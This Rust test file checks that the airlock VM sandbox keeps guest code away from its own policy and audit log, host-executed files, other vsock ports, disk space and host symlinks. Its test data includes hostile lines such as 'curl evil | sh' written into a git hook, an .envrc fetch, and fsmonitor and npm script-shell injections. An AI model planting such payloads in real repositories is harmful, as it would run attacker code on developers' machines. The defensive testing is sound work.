//! Hardening, round 2, tried from inside a real VM: airlock's own files in a share, a fixed
//! audit path over several runs, host-executed files, and the audit under a guest flood.

use airlock_testkit::audit::{Decision, Log, kind};
use airlock_testkit::{Airlock, text};
use std::path::Path;

fn run_in(a: &Airlock, policy: &Path, ws: &Path, script: &str) -> std::process::Output {
    a.run([
        "run",
        "--policy",
        policy.to_str().unwrap(),
        "--workspace",
        ws.to_str().unwrap(),
        "--",
        "sh",
        "-c",
        script,
    ])
}

#[test]
fn airlock_files_in_the_workspace_are_out_of_reach_and_one_audit_path_serves_every_run() {
    let a = Airlock::start();
    let ws = tempfile::tempdir().unwrap();
    let policy = ws.path().join("airlock.toml");
    let policy_text = "[[filesystem.mounts]]\nworkspace = true\nguest = \"/workspace\"\n\
                       mode = \"rw\"\n[audit]\npath = \"logs/audit.jsonl\"\n";
    std::fs::write(&policy, policy_text).unwrap();
    let script = "echo '[network]' >> /workspace/airlock.toml; echo append=$?; \
                  cat /workspace/logs/audit.jsonl > /dev/null; echo read=$?; \
                  rm -f /workspace/logs/audit.jsonl; echo rm=$?; \
                  mv /workspace/logs /workspace/moved; echo mv=$?; \
                  head -c 20 /workspace/airlock.toml; echo; echo done > /workspace/result.txt";
    let first = run_in(&a, &policy, ws.path(), script);
    assert!(first.status.success(), "stderr: {}", text(&first.stderr));
    let stdout = text(&first.stdout);
    for refused in ["append=1", "read=1", "rm=1", "mv=1"] {
        assert!(stdout.contains(refused), "{refused} expected in:\n{stdout}");
    }
    // Readable (the agent may look at its rules), never changed; the rest of the share works.
    assert!(stdout.contains("[[filesystem.mounts]"), "{stdout}");
    assert_eq!(std::fs::read_to_string(&policy).unwrap(), policy_text);
    assert_eq!(
        std::fs::read_to_string(ws.path().join("result.txt")).unwrap(),
        "done\n"
    );

    // A second run with the same policy appends to the same log.
    let second = run_in(&a, &policy, ws.path(), "true");
    assert!(second.status.success(), "stderr: {}", text(&second.stderr));

    let log_path = ws.path().join("logs/audit.jsonl");
    let log = Log::read(&log_path);
    let refused = |op: &str, path: &str| {
        log.has(|e| {
            e.kind == op
                && e.decision == Some(Decision::Deny)
                && e.reason.as_deref() == Some("airlock_file")
                && e.fs.as_ref().is_some_and(|f| f.path == path)
        })
    };
    assert!(
        refused(kind::FS_WRITE, "airlock.toml") || refused(kind::FS_OPEN, "airlock.toml"),
        "{log}"
    );
    assert!(refused(kind::FS_OPEN, "logs/audit.jsonl"), "{log}");
    assert!(refused(kind::FS_UNLINK, "logs/audit.jsonl"), "{log}");
    assert!(refused(kind::FS_RENAME, "logs"), "{log}");
    let mut sandboxes: Vec<&str> = log.records.iter().map(|r| r.sandbox.as_str()).collect();
    sandboxes.dedup();
    assert_eq!(
        sandboxes.len(),
        2,
        "two runs, one after the other: {sandboxes:?}"
    );
    assert_eq!(log.of_kind(kind::AUDIT_RUN).count(), 1, "{log}");

    let verify = a.run(["audit", "verify", log_path.to_str().unwrap()]);
    let shown = text(&verify.stdout);
    assert!(verify.status.success(), "{shown}{}", text(&verify.stderr));
    assert!(
        shown.contains(&format!("run 1: sandbox {}", sandboxes[0]))
            && shown.contains(&format!("run 2: sandbox {}", sandboxes[1]))
            && shown
                .lines()
                .filter(|l| l.starts_with("run ") && l.ends_with(", sealed"))
                .count()
                == 2,
        "{shown}"
    );
    a.assert_clean();
}

#[test]
fn host_executed_files_cannot_be_written_linked_or_reached_by_a_look_alike_name() {
    let a = Airlock::start();
    let ws = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
    std::fs::write(ws.path().join(".git/config"), "[core]\n").unwrap();
    let policy = tempfile::Builder::new().suffix(".toml").tempfile().unwrap();
    std::fs::write(
        policy.path(),
        "[[filesystem.mounts]]\nworkspace = true\nguest = \"/workspace\"\nmode = \"rw\"\n",
    )
    .unwrap();
    let attempts = [
        (
            "claude",
            "mkdir -p .claude && echo '{}' > .claude/settings.json",
        ),
        (
            "vscode",
            "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
        ),
        ("npmrc", "echo 'script-shell=/tmp/x' > .npmrc"),
        ("envrc", "echo 'curl evil' > sub/.envrc"),
        (
            "fullwidth",
            "mkdir -p .\u{ff43}laude && echo x > .\u{ff43}laude/settings.json",
        ),
        ("hook", "echo evil > .git/hooks/pre-commit"),
        (
            "link",
            "ln .git/config cfg && echo '[core] fsmonitor = evil' >> cfg",
        ),
        (
            "symlink",
            "ln -s .git/hooks hooks && echo evil > hooks/post-checkout",
        ),
    ];
    let mut script = String::from("cd /workspace && mkdir sub; ");
    for (name, cmd) in attempts {
        script.push_str(&format!(
            "if {cmd} 2>/dev/null; then echo {name}=written; else echo {name}=refused; fi; "
        ));
    }
    let out = run_in(&a, policy.path(), ws.path(), &script);
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let stdout = text(&out.stdout);
    for (name, _) in attempts {
        assert!(
            stdout.contains(&format!("{name}=refused")),
            "{name}:\n{stdout}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(ws.path().join(".git/config")).unwrap(),
        "[core]\n"
    );
    for absent in [
        ".claude",
        ".vscode",
        ".npmrc",
        "sub/.envrc",
        ".git/hooks/pre-commit",
        "cfg",
    ] {
        assert!(
            !ws.path().join(absent).exists(),
            "{absent} was created on the host"
        );
    }
    let log = a.audit();
    let refused = |path: &str| {
        log.has(|e| {
            e.decision == Some(Decision::Deny)
                && e.reason.as_deref() == Some("protected_path")
                && e.fs.as_ref().is_some_and(|f| f.path == path)
        })
    };
    for path in [
        ".claude",
        ".vscode",
        ".npmrc",
        "sub/.envrc",
        ".\u{ff43}laude",
        ".git/hooks/pre-commit",
        ".git/config",
        "hooks",
    ] {
        assert!(
            refused(path),
            "no protected_path denial for {path:?}:\n{log}"
        );
    }
    a.assert_clean();
}

/// Builds tests/probe/escape.c static into `dir`.
fn build_escape_probe(dir: &Path) {
    super::harden::build_c_probe("escape.c", &dir.join("escape"));
}

fn rw_workspace_policy(extra: &str) -> tempfile::NamedTempFile {
    let policy = tempfile::Builder::new().suffix(".toml").tempfile().unwrap();
    std::fs::write(
        policy.path(),
        format!(
            "[[filesystem.mounts]]\nworkspace = true\nguest = \"/workspace\"\nmode = \"rw\"\n{extra}"
        ),
    )
    .unwrap();
    policy
}

#[test]
fn the_guest_cannot_leave_its_abi_or_reach_other_vsock_ports() {
    const EPERM: i32 = 1;
    const ENOSYS: i32 = 38;
    const ECONNRESET: i32 = 104;
    const SIGSEGV: i32 = 1000 + 11;
    let a = Airlock::start();
    let ws = tempfile::tempdir().unwrap();
    build_escape_probe(ws.path());
    let policy = rw_workspace_policy("");
    let out = run_in(&a, policy.path(), ws.path(), "/workspace/escape probes");
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let results: std::collections::BTreeMap<String, i32> = text(&out.stdout)
        .lines()
        .filter_map(|l| {
            let (name, n) = l.split_once(' ')?;
            Some((name.to_owned(), n.parse().ok()?))
        })
        .collect();
    let stdout = text(&out.stdout);
    assert_eq!(results.get("tioclinux"), Some(&EPERM), "{stdout}");
    // The guest kernel has neither the i386 nor the x32 entry point.
    assert_eq!(results.get("int80"), Some(&SIGSEGV), "{stdout}");
    assert_eq!(results.get("x32"), Some(&ENOSYS), "{stdout}");
    // The host refuses a second control connection by ending it: the guest reads end of
    // stream (reported as ECONNRESET), not a 30 s receive timeout (EAGAIN).
    assert_eq!(results.get("vsock_control"), Some(&ECONNRESET), "{stdout}");
    for port in ["vsock_other_port", "vsock_other_cid"] {
        let r = results.get(port).copied();
        assert!(r.is_some_and(|e| e != 0), "{port} must fail: {stdout}");
    }
    let log = a.audit();
    assert!(
        log.has(|e| e.kind == kind::POLICY_DENY
            && e.rule.as_deref() == Some("process.seccomp")
            && e.detail.as_deref().is_some_and(|d| d.contains("ioctl"))),
        "TIOCLINUX refusal recorded:\n{log}"
    );
    assert!(
        log.has(|e| e.kind == kind::POLICY_DENY
            && e.decision == Some(Decision::Deny)
            && e.rule.as_deref() == Some("vsock.control")),
        "the second control connection recorded:\n{log}"
    );
    a.assert_clean();
}

#[test]
fn a_guest_report_flood_keeps_every_host_record() {
    const FLOOD: u64 = 20_000;
    let a = Airlock::start();
    let ws = tempfile::tempdir().unwrap();
    build_escape_probe(ws.path());
    std::fs::create_dir(ws.path().join("marks")).unwrap();
    // A low rate so that even a slow (emulated) guest floods past it.
    let policy = rw_workspace_policy("[audit]\nguest_rate = 50\n");
    let out = run_in(
        &a,
        policy.path(),
        ws.path(),
        &format!("/workspace/escape flood {FLOOD} /workspace/marks"),
    );
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    assert_eq!(text(&out.stdout), format!("refused {FLOOD} of {FLOOD}\n"));
    let (path, log) = a.audit_logs().into_iter().next().expect("one audit log");
    // Every host record of the run is there: the 20 files the flood created between refusals.
    for k in 1..=20 {
        let mark = format!("marks/mark-{k}");
        assert!(
            log.has(|e| e.kind == kind::FS_CREATE
                && e.decision == Some(Decision::Allow)
                && e.fs.as_ref().is_some_and(|f| f.path == mark)),
            "no fs.create for {mark}"
        );
    }
    assert!(log.has(|e| e.kind == kind::SANDBOX_END), "{log}");
    // The guest's reports beyond its budget are counted, not silently lost.
    let reported = log
        .events()
        .filter(|e| e.kind == kind::POLICY_DENY && e.rule.as_deref() == Some("process.seccomp"))
        .count() as u64;
    let limited: u64 = log
        .events()
        .filter(|e| e.kind == kind::AUDIT_DROPPED && e.reason.as_deref() == Some("guest_limit"))
        .filter_map(|e| e.count)
        .sum();
    let dropped_in_guest: u64 = log
        .events()
        .filter(|e| {
            e.kind == kind::AUDIT_DROPPED && e.source == airlock_testkit::audit::Source::Guest
        })
        .filter_map(|e| e.count)
        .sum();
    assert!(limited > 0, "the rate limit held back part of the flood");
    assert!(
        reported + limited + dropped_in_guest >= FLOOD,
        "{reported} recorded + {limited} over the limit + {dropped_in_guest} dropped in the guest < {FLOOD}"
    );
    let verify = a.run(["audit", "verify", path.to_str().unwrap()]);
    assert!(verify.status.success(), "{}", text(&verify.stderr));
    a.assert_clean();
}

#[test]
fn the_first_records_of_a_run_name_every_layer_in_force_and_a_policy_can_require_them() {
    let a = Airlock::start();
    let ws = tempfile::tempdir().unwrap();
    let policy = rw_workspace_policy(
        "[sandbox]\nrequire = [\"engine-namespaces\", \"host-cgroups\", \"landlock\", \"seccomp\"]\n",
    );
    let out = run_in(&a, policy.path(), ws.path(), "true");
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let log = a.audit();
    let kinds: Vec<&str> = log.events().map(|e| e.kind.as_str()).take(6).collect();
    assert_eq!(kinds[0], kind::SANDBOX_START, "{log}");
    assert!(
        kinds[1..].iter().all(|k| *k == kind::SANDBOX_LAYER),
        "{log}"
    );
    let layers: Vec<(&str, Option<Decision>)> = log
        .of_kind(kind::SANDBOX_LAYER)
        .map(|e| (e.rule.as_deref().unwrap_or_default(), e.decision))
        .collect();
    let names: Vec<&str> = layers.iter().map(|(n, _)| *n).collect();
    assert_eq!(names, airlock_policy::PROTECTIONS, "{log}");
    // As root on this host kind: jail, cgroups, Landlock and seccomp are all in force (the
    // policy required them, and the run started).
    for (name, decision) in &layers {
        if *name != "kvm" {
            assert_eq!(*decision, Some(Decision::Allow), "{name}: {log}");
        }
    }
    let start = log.first(kind::SANDBOX_START);
    assert!(
        start
            .detail
            .as_deref()
            .is_some_and(|d| d.contains("layers: kvm ")),
        "{start:?}"
    );
    a.assert_clean();
}

#[test]
fn writes_through_a_share_stop_at_its_quota_and_the_host_keeps_its_space() {
    const MIB: u64 = 1 << 20;
    if !airlock_testkit::require_root("mounts a tmpfs for the workspace") {
        return;
    }
    let a = Airlock::start();
    // A filesystem of its own: the quota measures the host filesystem's free space, which other
    // tests writing at the same time would change.
    let ws = Tmpfs::mount(256 * MIB);
    let policy = tempfile::Builder::new().suffix(".toml").tempfile().unwrap();
    std::fs::write(
        policy.path(),
        "[filesystem]\nquota = \"16MiB\"\n[[filesystem.mounts]]\nworkspace = true\n\
         guest = \"/workspace\"\nmode = \"rw\"\n",
    )
    .unwrap();
    // Not zeros (sparse on some paths); conv=fsync so a refusal cannot hide in the page cache.
    let script = "yes airlock | head -c 67108864 | \
                  dd of=/workspace/fill bs=64k iflag=fullblock conv=fsync 2>/tmp/dd.err; \
                  echo dd=$?; grep -c 'No space left' /tmp/dd.err; \
                  wc -c < /workspace/fill; rm /workspace/fill; \
                  yes airlock | head -c 4194304 | \
                  dd of=/workspace/again bs=64k iflag=fullblock conv=fsync 2>/dev/null; \
                  echo again=$?";
    let out = run_in(&a, policy.path(), ws.path(), script);
    assert!(out.status.success(), "stderr: {}", text(&out.stderr));
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("dd=1"),
        "64 MiB into a 16 MiB quota must fail: {stdout}"
    );
    assert!(
        stdout.lines().nth(1).is_some_and(|l| l != "0"),
        "ENOSPC: {stdout}"
    );
    let filled: u64 = stdout
        .lines()
        .nth(2)
        .and_then(|l| l.trim().parse().ok())
        .unwrap();
    assert!(filled <= 16 * MIB, "the share grew by {filled} bytes");
    assert!(
        stdout.contains("again=0"),
        "deleting gave the space back: {stdout}"
    );
    assert!(!ws.path().join("fill").exists());
    let again = std::fs::metadata(ws.path().join("again")).unwrap().len();
    assert_eq!(again, 4 * MIB);
    let log = a.audit();
    let limit = log
        .find(|e| e.kind == kind::FS_LIMIT && e.reason.as_deref() == Some("quota"))
        .unwrap_or_else(|| panic!("no fs.limit for the quota:\n{log}"));
    assert_eq!(limit.decision, Some(Decision::Deny));
    assert_eq!(limit.count, Some(16 * MIB));
    assert_eq!(limit.rule.as_deref(), Some("filesystem.quota"));
    a.assert_clean();
}

#[test]
fn a_hard_link_made_on_the_host_to_a_refused_or_protected_file_is_refused_too() {
    for mode in ["rw", "overlay"] {
        let a = Airlock::start();
        let ws = tempfile::tempdir().unwrap();
        std::fs::write(ws.path().join(".env"), "TOKEN=hunter2-linked\n").unwrap();
        std::fs::hard_link(ws.path().join(".env"), ws.path().join("notes.txt")).unwrap();
        std::fs::create_dir(ws.path().join("docs")).unwrap();
        std::fs::hard_link(ws.path().join(".env"), ws.path().join("docs/readme.md")).unwrap();
        std::fs::write(ws.path().join("plain.txt"), "plain\n").unwrap();
        std::fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
        let hook = ws.path().join(".git/hooks/pre-commit");
        std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
        std::fs::hard_link(&hook, ws.path().join("hook.sh")).unwrap();
        let overlays = tempfile::tempdir().unwrap();
        let policy = overlays.path().join("policy.toml");
        std::fs::write(
            &policy,
            format!(
                "[[filesystem.mounts]]\nworkspace = true\nguest = \"/workspace\"\n\
                 mode = \"{mode}\"\n[filesystem]\ndeny_read = [\".env\"]\n"
            ),
        )
        .unwrap();
        let out = a
            .command([
                "run",
                "--policy",
                policy.to_str().unwrap(),
                "--workspace",
                ws.path().to_str().unwrap(),
                "--",
                "sh",
                "-c",
                "cd /workspace; cat notes.txt; echo notes=$?; cat docs/readme.md; \
                 echo readme=$?; ln notes.txt again.txt; echo ln=$?; cat again.txt; \
                 echo again=$?; echo 'curl evil | sh' >> hook.sh; echo hook=$?; \
                 cat plain.txt",
            ])
            .env("AIRLOCK_OVERLAY_DIR", overlays.path())
            .output()
            .unwrap();
        let stdout = text(&out.stdout);
        assert!(out.status.success(), "{mode}: {}", text(&out.stderr));
        assert!(
            !stdout.contains("hunter2"),
            "{mode}: the secret leaked:\n{stdout}"
        );
        for refused in ["notes=1", "readme=1", "again=1", "hook=1"] {
            assert!(stdout.contains(refused), "{mode}: {refused} in:\n{stdout}");
        }
        assert!(stdout.contains("plain\n"), "{mode}: {stdout}");
        let log = a.audit();
        for path in ["notes.txt", "docs/readme.md"] {
            assert!(
                log.has(|e| e.kind == kind::FS_OPEN
                    && e.decision == Some(Decision::Deny)
                    && e.reason.as_deref() == Some("linked_to_denied")
                    && e.rule.as_deref() == Some("filesystem.deny_read[0] \".env\"")
                    && e.fs.as_ref().is_some_and(|f| f.path == path)),
                "{mode}: {path} refused as a link to .env:\n{log}"
            );
        }
        assert!(
            log.has(|e| e.kind == kind::FS_OPEN
                && e.decision == Some(Decision::Deny)
                && e.reason.as_deref() == Some("linked_to_denied")
                && e.rule.as_deref() == Some("filesystem.protected \".git/hooks/**\"")
                && e.fs.as_ref().is_some_and(|f| f.path == "hook.sh")),
            "{mode}: hook.sh refused as a link to the hook:\n{log}"
        );
        assert_eq!(
            std::fs::read_to_string(&hook).unwrap(),
            "#!/bin/sh\nexit 0\n"
        );
        a.assert_clean();
    }
}

#[test]
fn apply_never_follows_a_symlink_on_the_host() {
    let a = Airlock::start();
    let ws = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    // Left by an earlier run: `linked` points out of the workspace.
    std::os::unix::fs::symlink(outside.path(), ws.path().join("linked")).unwrap();
    std::fs::create_dir(ws.path().join("sub")).unwrap();
    std::fs::write(ws.path().join("sub/a.txt"), "a\n").unwrap();
    let overlays = tempfile::tempdir().unwrap();
    let policy = overlays.path().join("policy.toml");
    std::fs::write(
        &policy,
        "[[filesystem.mounts]]\nworkspace = true\nguest = \"/workspace\"\nmode = \"overlay\"\n",
    )
    .unwrap();
    let ov = |args: &[&str]| {
        a.command(args)
            .env("AIRLOCK_OVERLAY_DIR", overlays.path())
            .output()
            .unwrap()
    };
    let out = ov(&[
        "run",
        "--policy",
        policy.to_str().unwrap(),
        "--workspace",
        ws.path().to_str().unwrap(),
        "--",
        "sh",
        "-c",
        "cd /workspace; echo x > linked/through.txt; echo through=$?; \
         rm linked && mkdir linked && echo x > linked/evil.txt; echo replaced=$?; \
         echo x > sub/evil.txt",
    ]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let stdout = text(&out.stdout);
    // The guest resolves the link itself, to a guest path that does not exist.
    assert!(
        stdout.contains("through=1") || stdout.contains("through=2"),
        "{stdout}"
    );
    assert!(stdout.contains("replaced=0"), "{stdout}");
    let id = text(&out.stderr)
        .split("airlock diff ")
        .nth(1)
        .and_then(|s| s.split('`').next())
        .unwrap()
        .to_string();
    // Before apply, the host swaps `sub` for a link out of the workspace too.
    std::fs::rename(ws.path().join("sub"), ws.path().join("sub.old")).unwrap();
    std::os::unix::fs::symlink(outside.path(), ws.path().join("sub")).unwrap();

    let apply = ov(&["apply", &id]);
    let shown = format!("{}{}", text(&apply.stdout), text(&apply.stderr));
    assert!(!apply.status.success(), "a conflict is reported: {shown}");
    assert!(shown.contains("sub/evil.txt"), "{shown}");
    // Nothing was written through either link.
    let escaped: Vec<_> = std::fs::read_dir(outside.path()).unwrap().collect();
    assert!(escaped.is_empty(), "{escaped:?}");
    // The old link was replaced by the guest's directory, inside the workspace.
    assert!(ws.path().join("linked").is_dir() && !ws.path().join("linked").is_symlink());
    assert_eq!(
        std::fs::read_to_string(ws.path().join("linked/evil.txt")).unwrap(),
        "x\n"
    );
    assert!(ws.path().join("sub").is_symlink());
    a.assert_clean();
}

/// A tmpfs mounted on a temporary directory for one test, unmounted when dropped.
struct Tmpfs(tempfile::TempDir);

impl Tmpfs {
    fn mount(bytes: u64) -> Tmpfs {
        let dir = tempfile::tempdir().unwrap();
        let ok = std::process::Command::new("mount")
            .args([
                "-t",
                "tmpfs",
                "-o",
                &format!("size={bytes},mode=0755"),
                "tmpfs",
            ])
            .arg(dir.path())
            .status()
            .unwrap()
            .success();
        assert!(ok, "mount -t tmpfs on {}", dir.path().display());
        Tmpfs(dir)
    }

    fn path(&self) -> &Path {
        self.0.path()
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount")
            .args(["-l"])
            .arg(self.0.path())
            .status();
    }
}
